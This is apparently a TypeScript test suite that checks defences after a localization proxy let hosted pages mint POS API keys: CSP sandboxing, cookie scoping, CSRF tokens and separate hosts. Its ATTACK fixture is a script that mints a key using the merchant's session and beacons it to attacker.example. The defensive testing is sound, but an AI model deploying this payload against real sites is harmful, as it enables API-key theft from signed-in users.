// Issue 37 item 2: the localization proxy served a foreign site's scripts on the platform's origin, and
// the POS dashboard cookie (pos_session; Path=/) rode along, so the page's script could mint a POS API
// key for the signed-in merchant. Defence in depth, each layer tested: the proxied page is sandboxed
// (CSP, opaque origin), the proxy has its own cookieless host in production, session cookies are
// scoped to their service, and a cookie write needs the session's CSRF token.
import { createExecutionContext, env, SELF, waitOnExecutionContext } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import { dispatch } from "../../src/router";
import { useFakeSite } from "../helpers/fake-site";
import { call, expectEnvelopeError, ORIGIN } from "../helpers/http";
import { loc, locProject, locWorkspace, untilFinished } from "../helpers/loc";
import { idpToken } from "../helpers/mkt";
import { payCall } from "../helpers/pay";
import { posWorkspace } from "../helpers/pos";
import { action, mint, open, portalCsrf, withSubscription } from "../payments/portal-helpers";

const site = useFakeSite();
const SANDBOX = "sandbox allow-scripts allow-forms allow-popups";

/** What the hostile page runs: mint a POS key with whatever session the browser holds. */
const ATTACK = `fetch("/pos/api/v1/api-keys", { method: "POST", credentials: "include",
  headers: { "Content-Type": "application/json" }, body: JSON.stringify({ name: "mine" }) })
  .then((r) => r.json()).then((k) => navigator.sendBeacon("https://attacker.example/k", JSON.stringify(k)));`;

/** A proxy project over a hostile site, crawled and its source locale released, so the proxy serves it. */
async function hostileProxy() {
	const o = `https://hostile-${crypto.randomUUID().slice(0, 8)}.example`;
	site.pages[`${o}/`] =
		`<!doctype html><html lang="en"><head><title>Promo</title><script>${ATTACK}</script></head>` +
		`<body><h1 onclick="${ATTACK.replaceAll('"', "&quot;")}">Big sale</h1></body></html>`;
	const w = await locWorkspace("pro");
	const p = await locProject(w.key, { mode: "proxy", siteUrl: `${o}/` });
	const crawl = await loc(w.key, "POST", `/projects/${p.id}/crawl`);
	expect((await untilFinished(w.key, crawl.body.data.id)).status).toBe("done");
	const release = await loc(w.key, "POST", `/projects/${p.id}/releases`, { locale: "en" });
	expect(release.status, release.text).toBe(201);
	return p.id as string;
}

/** A merchant signed in to the POS dashboard: its session cookie and CSRF token as the sign-in set them. */
async function signedInMerchant() {
	const { ws } = await posWorkspace();
	const token = await idpToken({ sub: "u_owner", accountId: ws, roles: ["owner"] });
	const r = await SELF.fetch(`${ORIGIN}/pos/api/v1/auth/session`, {
		method: "POST",
		headers: { Authorization: `Bearer ${token}` },
	});
	expect(r.status).toBe(204);
	const setCookie = r.headers.get("Set-Cookie") ?? "";
	return { ws, setCookie, cookie: setCookie.split(";")[0], csrf: r.headers.get("X-CSRF-Token") ?? "" };
}

const keyCount = async (cookie: string) =>
	(await call("GET", "/pos/api/v1/api-keys", { headers: { Cookie: cookie } })).body.data.length as number;

describe("a proxied page's script cannot mint a POS key", () => {
	it("the proxied answer is sandboxed (opaque origin) and nosniff, on a miss and on a cache hit", async () => {
		const projectId = await hostileProxy();
		for (const xCache of ["MISS", "HIT"]) {
			const r = await call("GET", `/loc/proxy/${projectId}/en/`);
			expect(r.status, r.text).toBe(200);
			expect(r.headers.get("X-Cache")).toBe(xCache);
			expect(r.headers.get("Content-Security-Policy")).toBe(SANDBOX);
			expect(r.headers.get("Content-Security-Policy")).not.toMatch(/allow-same-origin/);
			expect(r.headers.get("X-Content-Type-Options")).toBe("nosniff");
			// The site's script is served as it is: the sandbox, not rewriting, is the defence.
			expect(r.text).toContain('fetch("/pos/api/v1/api-keys"');
		}
		// Errors and unknown pages under the proxy carry it too.
		const missing = await call("GET", "/loc/proxy/lp_nope/en/");
		expect(missing.status).toBe(404);
		expect(missing.headers.get("Content-Security-Policy")).toBe(SANDBOX);
	}, 60_000);

	it("the POS cookie is scoped to /pos, HttpOnly, SameSite=Strict; its writes need the CSRF token", async () => {
		const m = await signedInMerchant();
		expect(m.setCookie).toMatch(
			/^pos_session=acc_[A-Za-z0-9]+\.[A-Za-z0-9_-]{43}; Max-Age=43200; Path=\/pos; HttpOnly; SameSite=Strict$/,
		);
		expect(m.csrf).toMatch(/^[A-Za-z0-9_-]{43}$/);
		const before = await keyCount(m.cookie);
		const mint = (headers: Record<string, string>) =>
			call("POST", "/pos/api/v1/api-keys", { body: { name: "mine" }, headers: { Cookie: m.cookie, ...headers } });
		// What the page's script sends: the sandbox makes its Origin "null"; were the CSP ignored, it would
		// be this origin, and it still has no token.
		expectEnvelopeError(await mint({ Origin: "null" }), 403, "FORBIDDEN");
		expectEnvelopeError(await mint({ Origin: ORIGIN }), 403, "FORBIDDEN");
		expectEnvelopeError(await mint({ Origin: ORIGIN, "X-CSRF-Token": "x".repeat(43) }), 403, "FORBIDDEN");
		// Another session's token is not this one's.
		const other = await signedInMerchant();
		expectEnvelopeError(await mint({ Origin: ORIGIN, "X-CSRF-Token": other.csrf }), 403, "FORBIDDEN");
		expect(await keyCount(m.cookie)).toBe(before);
		// The dashboard, holding the token from sign-in, mints.
		const ok = await mint({ Origin: ORIGIN, "X-CSRF-Token": m.csrf });
		expect(ok.status, ok.text).toBe(201);
		expect(ok.body.data.key).toMatch(/^sk_live_/);
		expect(await keyCount(m.cookie)).toBe(before + 1);
		// Bearer requests are unaffected: no Origin, no token.
		const token = await idpToken({ sub: "u_owner", accountId: m.ws, roles: ["owner"] });
		const bearer = await call("POST", "/pos/api/v1/api-keys", {
			body: { name: "cli" },
			headers: { Authorization: `Bearer ${token}` },
		});
		expect(bearer.status, bearer.text).toBe(201);
	});
});

describe("production hosts (SERVICE_HOSTS)", () => {
	const HOSTS = "pos.example.com=pos,mkt.example.com=mkt,loc.example.com=loc,proxy.example.com=loc-proxy";
	const prodEnv = { ...env, SERVICE_HOSTS: HOSTS } as typeof env;
	async function at(url: string, init: RequestInit = {}) {
		const ctx = createExecutionContext();
		const res = await dispatch(new Request(url, { redirect: "manual", ...init }), prodEnv, ctx);
		await waitOnExecutionContext(ctx);
		return res;
	}

	it("the proxy answers on its own host only, where no other route does", async () => {
		const projectId = await hostileProxy();
		const page = await at(`https://proxy.example.com/proxy/${projectId}/en/`);
		expect(page.status).toBe(200);
		expect(page.headers.get("Content-Security-Policy")).toBe(SANDBOX);
		expect(await page.text()).toContain("Big sale");
		// The localization API host sends the browser to the proxy host instead of serving the page.
		const moved = await at(`https://loc.example.com/proxy/${projectId}/en/?a=1`);
		expect(moved.status).toBe(308);
		expect(moved.headers.get("Location")).toBe(`https://proxy.example.com/proxy/${projectId}/en/?a=1`);
		// Nothing else answers on the proxy host: not the loc API, not another service.
		for (const path of ["/api/v1/projects", "/pos/api/v1/api-keys", "/api/v1/api-keys", "/v1/payouts"]) {
			const r = await at(`https://proxy.example.com${path}`, { method: "POST" });
			expect(r.status, path).toBe(404);
			expect(r.headers.get("Set-Cookie"), path).toBeNull();
		}
	}, 60_000);

	it("marketing's OAuth session cookie on its host: Secure, HttpOnly, its OAuth path only, Lax for the provider's redirect", async () => {
		const ws = (await posWorkspace()).ws;
		const token = await idpToken({ sub: "owner-1", accountId: ws, roles: ["owner"] });
		const r = await at("https://mkt.example.com/api/v1/session", {
			method: "POST",
			headers: { Authorization: `Bearer ${token}` },
		});
		expect(r.status).toBe(204);
		expect(r.headers.get("Set-Cookie")).toMatch(
			/^mkt_session=[^;]+; Max-Age=28800; Path=\/api\/v1\/channels\/oauth; HttpOnly; Secure; SameSite=Lax$/,
		);
	});

	it("on the POS host over https the cookie is __Host-pos_session; Path=/; Secure, and works with its token", async () => {
		const { ws } = await posWorkspace();
		const token = await idpToken({ sub: "u_owner", accountId: ws, roles: ["owner"] });
		const signIn = await at("https://pos.example.com/api/v1/auth/session", {
			method: "POST",
			headers: { Authorization: `Bearer ${token}` },
		});
		expect(signIn.status).toBe(204);
		const setCookie = signIn.headers.get("Set-Cookie") ?? "";
		expect(setCookie).toMatch(
			/^__Host-pos_session=acc_[A-Za-z0-9]+\.[A-Za-z0-9_-]{43}; Max-Age=43200; Path=\/; HttpOnly; Secure; SameSite=Strict$/,
		);
		const cookie = setCookie.split(";")[0];
		const csrf = signIn.headers.get("X-CSRF-Token") ?? "";
		const origin = "https://pos.example.com";
		const read = await at(`${origin}/api/v1/api-keys`, { headers: { Cookie: cookie } });
		expect(read.status).toBe(200);
		// The old cookie name is not read on the host (a sibling subdomain could have planted it).
		const planted = await at(`${origin}/api/v1/api-keys`, { headers: { Cookie: cookie.replace("__Host-", "") } });
		expect(planted.status).toBe(401);
		const write = (headers: Record<string, string>) =>
			at(`${origin}/api/v1/api-keys`, {
				method: "POST",
				body: JSON.stringify({ name: "till" }),
				headers: { Cookie: cookie, Origin: origin, "Content-Type": "application/json", ...headers },
			});
		expect((await write({})).status).toBe(403);
		expect((await write({ "X-CSRF-Token": csrf })).status).toBe(201);
	});
});

describe("the payments customer portal's forms need the grant's CSRF token", () => {
	it("a cookie-authenticated cancel without the token, or with another grant's, is refused and changes nothing", async () => {
		const { key, s, sub } = await withSubscription();
		const url = (await mint(key, { customerId: s.customer.id, returnUrl: "https://toko.example/back" })).body.data.url;
		const { path, at, ex, cookie } = await open(url);
		// The cookie's path is the page's path (its ?w=, naming the workspace, is no part of it).
		expect(ex.headers.get("Set-Cookie")).toMatch(
			new RegExp(`^pasar_portal=[^;]+; Max-Age=\\d+; Path=${new URL(url).pathname}; HttpOnly; SameSite=Strict$`),
		);
		const cancel = at(`/subscriptions/${sub.id}/cancel`);
		expect((await action(cancel, cookie, "", null)).status).toBe(401);
		expect((await action(cancel, cookie, "", "forged")).status).toBe(401);
		const second = await open(url);
		const otherToken = await portalCsrf(path, second.cookie);
		expect(otherToken).not.toBe("");
		expect((await action(cancel, cookie, "", otherToken)).status).toBe(401);
		expect((await payCall(key, "GET", `/v1/subscriptions/${sub.id}`)).body.data.cancelAt).toBeNull();
		const done = await action(cancel, cookie);
		expect(done.status).toBe(303);
		expect(done.headers.get("location")).toContain("notice=");
		expect((await payCall(key, "GET", `/v1/subscriptions/${sub.id}`)).body.data.cancelAt).not.toBeNull();
	});
});
